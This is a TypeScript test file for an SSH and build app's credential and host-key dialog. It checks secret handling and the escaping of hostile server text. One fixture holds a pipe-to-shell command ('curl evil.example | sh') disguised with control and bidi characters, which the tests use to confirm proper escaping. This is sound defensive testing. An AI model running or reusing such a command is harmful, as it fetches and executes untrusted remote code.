import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { fail } from '../../../shared/problem.ts';
import type { Answer } from '../../../shared/question.ts';
import { setTransport } from '../../api.ts';
import { useQuestions } from '../../stores/questions.ts';
import { type QuestionName, questions } from '../../testing/fixture-questions.ts';
import { renderWithApp, type TestApp } from '../../testing/render-app.tsx';
import { QuestionDialog } from '../QuestionDialog.tsx';
import { shortPath } from './passphrase.tsx';

let app: TestApp;
/** The answers that the app received, in order. */
let answers: { id: string; answer: Answer }[];
/** While true, the app fails to receive answers. */
let isUnresponsive: boolean;

/** Opens a window with these questions. */
async function ask(...names: QuestionName[]): Promise<HTMLElement> {
  answers = [];
  isUnresponsive = false;
  ({ app } = await renderWithApp(<QuestionDialog />, 'busy'));
  setTransport({
    call: async (name, input) => {
      if (name === 'questions.answer' && 'answer' in input) {
        if (isUnresponsive) {
          return { ok: false, problem: fail('bug', 'The app is not responding.', 'Try again.').problem };
        }
        answers.push({ id: input.id, answer: { remember: false, ...Object(input.answer) } });
        if (typeof input.answer === 'string') {
          answers.splice(-1, 1, { id: input.id, answer: input.answer });
        }
      }
      return app.call(name, input);
    },
    onEvent: (listener) => app.subscribe(listener),
    onLink: () => () => {},
  });
  for (const name of names) {
    act(() => app.emit({ event: 'question.asked', question: questions[name] }));
  }
  return screen.findByRole('dialog');
}
afterEach(() => app.stop());

const type = (field: HTMLElement, text: string) => fireEvent.change(field, { target: { value: text } });
const field = (name: string | RegExp) => screen.getByLabelText<HTMLInputElement>(name);
const isGone = () => waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());

/** Submits the form as Enter does in a browser, unless a handler has prevented that. */
function pressEnter(input: HTMLInputElement): void {
  if (fireEvent.keyDown(input, { key: 'Enter' })) {
    const button = screen.getAllByRole('button').find((each) => each.getAttribute('type') === 'submit');
    expect(button?.getAttribute('form')).toBe(input.form?.id);
    if (input.form) {
      fireEvent.submit(input.form);
    }
  }
}

describe('a host key question', () => {
  it('shows its notes, and explains what trusting a key once means', async () => {
    const dialog = await ask('host-key-notes');
    within(dialog).getByRole('heading', { name: 'Trust the host key of bastion?' });
    expect(dialog.textContent).toContain('It is the jump host for pi4');
    const notes = within(dialog).getByRole('list', { name: 'Before you trust this host' });
    expect(within(notes).getAllByRole('listitem')).toHaveLength(2);
    within(dialog).getByText(/until you close Barnraiser/);
    fireEvent.click(within(dialog).getByRole('button', { name: 'Trust once' }));
    await isGone();
    expect(answers).toEqual([{ id: 'question-2', answer: 'once' }]);
  });

  it('focuses the button that refuses', async () => {
    const dialog = await ask('host-key');
    await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Refuse' })));
  });
});

describe('a proxy command question', () => {
  it('shows the command and where it is configured, and focuses the button that refuses', async () => {
    const dialog = await ask('proxy-command');
    within(dialog).getByRole('heading', { name: 'Run a command to reach graviton?' });
    within(dialog).getByText('/home/anna/.ssh/config:31');
    within(dialog).getByText(/^aws ssm start-session .*'portNumber=22'$/, { selector: 'code' });
    within(dialog).getByRole('button', { name: 'Copy command' });
    await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Don’t run' })));
  });

  it.each([
    ['Always run', 'trust'],
    ['Run once', 'once'],
    ['Don’t run', 'refuse'],
  ] as const)('is answered with %s', async (name, answer) => {
    const dialog = await ask('proxy-command');
    fireEvent.click(within(dialog).getByRole('button', { name }));
    await isGone();
    expect(answers).toEqual([{ id: 'question-11', answer }]);
  });

  it('is refused with Escape', async () => {
    fireEvent.keyDown(await ask('proxy-command'), { key: 'Escape' });
    await isGone();
    expect(answers).toEqual([{ id: 'question-11', answer: 'refuse' }]);
  });

  it('shows the whole command with control characters escaped', async () => {
    const dialog = await ask('proxy-command-hostile');
    within(dialog).getByRole('heading', { name: 'Run a command to reach bastion?' });
    expect(dialog.textContent).toContain('\\u{1b}]0;curl evil.example | sh\\u{7} \\u{202e}#\\u{200b} and-on');
    expect(dialog.textContent).toContain('<b>bold?</b>');
    for (const character of ['\u001b', '\u0007', '\u202e', '\u200b']) {
      expect(dialog.textContent).not.toContain(character);
    }
    expect(dialog.querySelector('b')).toBeNull();
  });
});

describe('a question for a secret of a build', () => {
  it('names the secret and the build, and is answered with the value', async () => {
    const dialog = await ask('build-secret');
    within(dialog).getByRole('heading', { name: 'Secret npm-token' });
    expect(dialog.textContent).toContain('The build of api:1.4 gives this secret to the steps that ask for it');
    expect(field('Value').type).toBe('password');
    type(field('Value'), 'hunter2');
    pressEnter(field('Value'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-31', answer: { secrets: ['hunter2'], remember: false } }]);
  });

  it('says for a key that steps may sign in with it', async () => {
    const dialog = await ask('build-passphrase');
    expect(dialog.textContent).toContain('Steps of the build of api:1.4 may sign in with this encrypted key.');
    expect(dialog.textContent).toContain('Buildapi:1.4');
  });
});

describe('a passphrase question', () => {
  it('names the key and the node, and focuses its field', async () => {
    const dialog = await ask('passphrase');
    within(dialog).getByRole('heading', { name: 'Passphrase for ~/.ssh/id_ed25519' });
    expect(dialog.textContent).toContain('signs in to pi4 with this encrypted key');
    expect(dialog.textContent).toContain('/home/anna/.ssh/id_ed25519');
    await waitFor(() => expect(document.activeElement).toBe(field('Passphrase')));
  });

  it('hides the value until the person shows it, and turns off autocomplete and spell checking', async () => {
    await ask('passphrase');
    const input = field('Passphrase');
    expect(input.type).toBe('password');
    expect(input.autocomplete).toBe('off');
    expect(input.getAttribute('spellcheck')).toBe('false');
    fireEvent.click(screen.getByRole('button', { name: 'Show passphrase' }));
    expect(field('Passphrase').type).toBe('text');
    fireEvent.click(screen.getByRole('button', { name: 'Hide passphrase' }));
    expect(field('Passphrase').type).toBe('password');
  });

  it('is answered by Enter, and saved only if that was selected', async () => {
    await ask('passphrase');
    type(field('Passphrase'), 'correct horse');
    fireEvent.click(screen.getByText(/^Save in/));
    pressEnter(field('Passphrase'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: { secrets: ['correct horse'], remember: true } }]);
  });

  it('rejects an empty answer', async () => {
    await ask('passphrase');
    pressEnter(field('Passphrase'));
    await screen.findByText('Enter the passphrase of the key.');
    expect(answers).toEqual([]);
  });

  it('shows at the field that the previous passphrase was wrong, until the field is changed', async () => {
    await ask('passphrase-wrong');
    const error = screen.getByText(/Wrong passphrase/);
    expect(field('Passphrase').getAttribute('aria-describedby')).toContain(error.id);
    type(field('Passphrase'), 'a');
    expect(screen.queryByText(/Wrong passphrase/)).toBeNull();
  });

  it('explains why the passphrase cannot be saved', async () => {
    await ask('passphrase-wrong');
    const remember = screen.getByRole('checkbox', { name: /^Save in/ });
    expect(remember.getAttribute('aria-disabled') ?? remember.getAttribute('data-disabled')).not.toBeNull();
    screen.getByText(/it would be written in plain text/);
  });

  it('is refused with Escape', async () => {
    const dialog = await ask('passphrase');
    type(field('Passphrase'), 'half typ');
    fireEvent.keyDown(dialog, { key: 'Escape' });
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: 'refuse' }]);
  });

  it('abbreviates the home folder of a key, and no other path', () => {
    expect(shortPath('/root/.ssh/id_rsa')).toBe('~/.ssh/id_rsa');
    expect(shortPath('C:\\Users\\anna\\.ssh\\id_rsa')).toBe('~\\.ssh\\id_rsa');
    expect(shortPath('/home/anna/keys/.ssh/x')).toBe('/home/anna/keys/.ssh/x');
  });
});

describe('a password question', () => {
  it('shows the user and the host', async () => {
    const dialog = await ask('password');
    within(dialog).getByRole('heading', { name: 'Password for root@starfive.lan' });
    expect(dialog.textContent).toContain('riscv-board');
    expect(dialog.textContent).toContain('starfive.lan, port 2222');
    type(field('Password'), 'secret');
    pressEnter(field('Password'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-5', answer: { secrets: ['secret'], remember: false } }]);
  });
});

describe('a prompts question', () => {
  it('has one field per prompt, hidden unless the server allows echo', async () => {
    await ask('prompts');
    screen.getByText('Two-factor authentication');
    expect(field('Account').type).toBe('text');
    expect(field('Verification code').type).toBe('password');
    type(field('Account'), 'anna');
    // the field below is still empty
    pressEnter(field('Account'));
    expect(document.activeElement).toBe(field('Verification code'));
    expect(answers).toEqual([]);
    type(field('Verification code'), '123456');
    pressEnter(field('Verification code'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-7', answer: { secrets: ['anna', '123456'], remember: false } }]);
  });

  it('accepts an empty answer', async () => {
    await ask('prompts-bare');
    pressEnter(field('Password'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-8', answer: { secrets: [''], remember: false } }]);
  });

  it('shows all lines of a menu, and uses the last line as the label of the field', async () => {
    const dialog = await ask('prompts-menu');
    field('Passcode or option (1-2)');
    expect(within(dialog).getByText(/Duo two-factor login/).textContent).toContain('\n 1. Push to XXX-XXX-1234\n');
    expect(dialog.textContent).toContain('bastion, the jump host for graviton, asks this for user anna');
  });

  it('attributes the text to the server, with control characters escaped', async () => {
    const dialog = await ask('hostile');
    within(dialog).getByRole('heading', { name: 'Sign in to graviton' });
    const message = within(dialog).getByRole('figure');
    within(message).getByText('graviton.eu.example.com');
    expect(message.textContent).toContain('<b>bold?</b>');
    for (const character of ['\u001b', '\u0000', '\u0007', '\u202e', '\u2066', '\u2069', '\u0301'.repeat(5)]) {
      expect(dialog.textContent).not.toContain(character);
    }
    expect(dialog.querySelector('b')).toBeNull();
    expect(within(dialog).getAllByRole('textbox').length + dialog.querySelectorAll('[type=password]').length).toBe(3);
  });
});

describe('a typed secret', () => {
  /** All text in the page, its fields and the stores. */
  const allText = () =>
    document.documentElement.outerHTML +
    [...document.querySelectorAll('input')].map(({ value }) => value).join() +
    JSON.stringify(useQuestions.getState());

  it('is nowhere in the window after it was sent', async () => {
    await ask('passphrase', 'password');
    type(field('Passphrase'), 'correct horse');
    expect(allText()).toContain('correct horse');
    pressEnter(field('Passphrase'));
    expect(allText()).not.toContain('correct horse');
    await screen.findByRole('dialog', { name: /^Password for/ });
    expect(field('Password').value).toBe('');
    expect(allText()).not.toContain('correct horse');
  });

  it('is nowhere in the window after the question was closed', async () => {
    await ask('passphrase');
    const input = field('Passphrase');
    type(input, 'correct horse');
    act(() => app.emit({ event: 'question.closed', id: 'question-3' }));
    await isGone();
    expect(allText()).not.toContain('correct horse');
    // the field is still mounted while the dialog fades out
    expect(input.value).toBe('');
  });

  it('must be entered again if sending it failed', async () => {
    await ask('passphrase');
    isUnresponsive = true;
    type(field('Passphrase'), 'correct horse');
    pressEnter(field('Passphrase'));
    await screen.findByText('The app is not responding.');
    expect(allText()).not.toContain('correct horse');
    isUnresponsive = false;
    type(field('Passphrase'), 'again');
    pressEnter(field('Passphrase'));
    await isGone();
    expect(answers).toEqual([{ id: 'question-3', answer: { secrets: ['again'], remember: false } }]);
  });
});

describe('several questions', () => {
  it('appear one after the other in one dialog, with their number', async () => {
    const dialog = await ask('passphrase', 'password', 'host-key');
    within(dialog).getByText('1 of 3');
    type(field('Passphrase'), 'x');
    pressEnter(field('Passphrase'));
    await screen.findByRole('dialog', { name: 'Password for root@starfive.lan' });
    within(screen.getByRole('dialog')).getByText('2 of 3');
    expect(screen.getByRole('status').textContent).toBe('Question 2 of 3');
    await waitFor(() => expect(document.activeElement).toBe(field('Password')));
    fireEvent.click(screen.getByRole('button', { name: 'Cancel sign-in' }));
    await screen.findByRole('dialog', { name: 'Trust the host key of graviton?' });
    within(screen.getByRole('dialog')).getByText('3 of 3');
    expect(document.activeElement?.textContent).toBe('Refuse');
    fireEvent.click(screen.getByRole('button', { name: 'Trust and save' }));
    await isGone();
    expect(answers.map(({ answer }) => answer)).toEqual([{ secrets: ['x'], remember: false }, 'refuse', 'trust']);
  });

  it('have no number if there is only one', async () => {
    const dialog = await ask('password');
    expect(within(dialog).queryByText(/^\d of \d$/)).toBeNull();
  });
});
